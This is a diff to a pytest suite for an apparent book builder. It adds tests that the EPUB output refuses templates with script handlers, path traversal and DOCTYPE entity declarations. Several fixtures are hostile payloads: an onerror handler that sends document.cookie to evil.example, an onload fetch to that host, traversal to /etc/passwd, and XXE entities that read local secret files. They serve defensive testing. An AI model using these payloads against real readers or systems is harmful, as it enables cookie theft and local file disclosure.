@@ -203,14 +203,16 @@ def test_an_error_in_the_code_a_project_template_calls_keeps_its_traceback(workd
         render(environment((workdir,)), "page.html.j2", broken=broken)
 
 
-def overridden(workdir: Path, name: str, layout: str, line: int, written: str) -> Path:
+def overridden(workdir: Path, name: str, layout: str, line: int, written: str, *,
+               replacing: bool = False) -> Path:
     """good-minimal as `name`, with its own copy of the project's `layout` that has `written`
-    as line `line`; the copy's path."""
+    as line `line` (in place of the project's line, with `replacing`); the copy's path."""
     root = hostile(workdir, name, base="good-minimal")
     lines = (SHIPPED / layout).read_text(encoding="utf-8").split("\n")
     copy = root / "layouts" / layout
     copy.parent.mkdir(parents=True)
-    copy.write_text("\n".join([*lines[:line - 1], written, *lines[line - 1:]]), encoding="utf-8")
+    after = lines[line:] if replacing else lines[line - 1:]
+    copy.write_text("\n".join([*lines[:line - 1], written, *after]), encoding="utf-8")
     return copy
 
 
@@ -228,6 +230,24 @@ def overridden(workdir: Path, name: str, layout: str, line: int, written: str) -
      "<?xml-stylesheet?>"),
     ("item.xhtml.j2", '<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="href" '
                       'to="file:///etc/passwd"/></a></svg>', "<set>"),
+    # An event handler is a script, whatever it is on and however it is spelt.
+    ("item.xhtml.j2", '<img src="data:image/png;base64,iVBORw0KGgo=" alt="" '
+                      'onerror="window.location=\'https://evil.example/?\'+document.cookie"/>',
+     "onerror"),
+    ("item.xhtml.j2", '<svg xmlns="http://www.w3.org/2000/svg" '
+                      'onload="fetch(\'https://evil.example/\')"><rect/></svg>',
+     "onload"),
+    ("base.xhtml.j2", '<meta name="viewport" content="width=device-width" OnFocus="alert(1)"/>',
+     "OnFocus"),
+    # A relative name is the book's only if, from where it is written, it names a file the book
+    # carries: images/cover.png is, but not from css/, and nothing is above the package.
+    ("item.xhtml.j2", '<img src="../../../../../../../../etc/passwd" alt=""/>',
+     "../../../../../../../../etc/passwd"),
+    ("base.xhtml.j2", '<link rel="stylesheet" type="text/css" '
+                      'href="../../../../../../../home/user/.config/x.css"/>',
+     "../../../../../../../home/user/.config/x.css"),
+    ("epub.css.j2", "body { background: url(../../images/cover.png) }", "../../images/cover.png"),
+    ("item.xhtml.j2", '<a href="images/nowhere.png">看这里</a>', "images/nowhere.png"),
 ])
 def test_an_epub_layout_refers_only_to_the_books_own_files(workdir, capsys, template, written,
                                                           reference):
@@ -235,6 +255,22 @@ def test_an_epub_layout_refers_only_to_the_books_own_files(workdir, capsys, temp
     layout = overridden(workdir, "epub-refers-out", f"epub/{template}", at, written)
     assert refused(capsys, "build", "epub-refers-out", "--epub") == [
         f"{layout.relative_to(workdir)}:{at}: layout template: `{reference}`: an EPUB refers "
+        "only to its own files, and links only to the web (http://, https:// or mailto:)"]
+
+
+@pytest.mark.parametrize(("doctype", "at", "refused_as"), [
+    ('<!DOCTYPE html [<!ENTITY xx SYSTEM "file:///tmp/secret.txt">]>', 2, "<!ENTITY>"),
+    ('<!DOCTYPE html [\n<!ATTLIST img onerror CDATA "fetch(\'https://evil.example/\')">\n]>', 3,
+     "<!ATTLIST>"),
+    ('<!DOCTYPE html SYSTEM "file:///etc/passwd">', 2, "file:///etc/passwd"),
+])
+def test_an_epub_layouts_doctype_declares_nothing(workdir, capsys, doctype, at, refused_as):
+    """A reader's parser may read an entity's file into the text, give each `<img>` the handler
+    an `<!ATTLIST>` defaults, or fetch the DTD: the document is `<!DOCTYPE html>` and no more."""
+    layout = overridden(workdir, "epub-declares", "epub/base.xhtml.j2", 2, doctype,
+                        replacing=True)
+    assert refused(capsys, "build", "epub-declares", "--epub") == [
+        f"{layout.relative_to(workdir)}:{at}: layout template: `{refused_as}`: an EPUB refers "
         "only to its own files, and links only to the web (http://, https:// or mailto:)"]
 
 
@@ -248,11 +284,14 @@ def test_an_epub_layout_that_prints_a_page_marker_twice_is_one_line(workdir, cap
     assert "holds the marker of printed page" in line and "2 time(s), not once" in line
 
 
-def test_an_epub_layout_may_name_a_namespace_and_hold_data(workdir, capsys):
-    """A namespace's URL is never fetched, and a `data:` URL holds what it shows."""
+def test_an_epub_layout_may_name_a_namespace_hold_data_and_use_the_books_files(workdir,
+                                                                              capsys):
+    """A namespace's URL is never fetched, a `data:` URL holds what it shows, and the cover is
+    a file of the book, named from the stylesheet's folder."""
     overridden(workdir, "epub-own-data", "epub/epub.css.j2", 2,
                "@namespace epub url(http://www.idpf.org/2007/ops);\n"
-               'p { background: url("data:image/png;base64,iVBORw0KGgo=") }')
+               'p { background: url("data:image/png;base64,iVBORw0KGgo=") }\n'
+               ".cover { background: url(../images/cover.png) }")
     assert main(["build", "epub-own-data", "--epub", "-o", "out"]) == 0
     assert "Traceback" not in capsys.readouterr().err
 
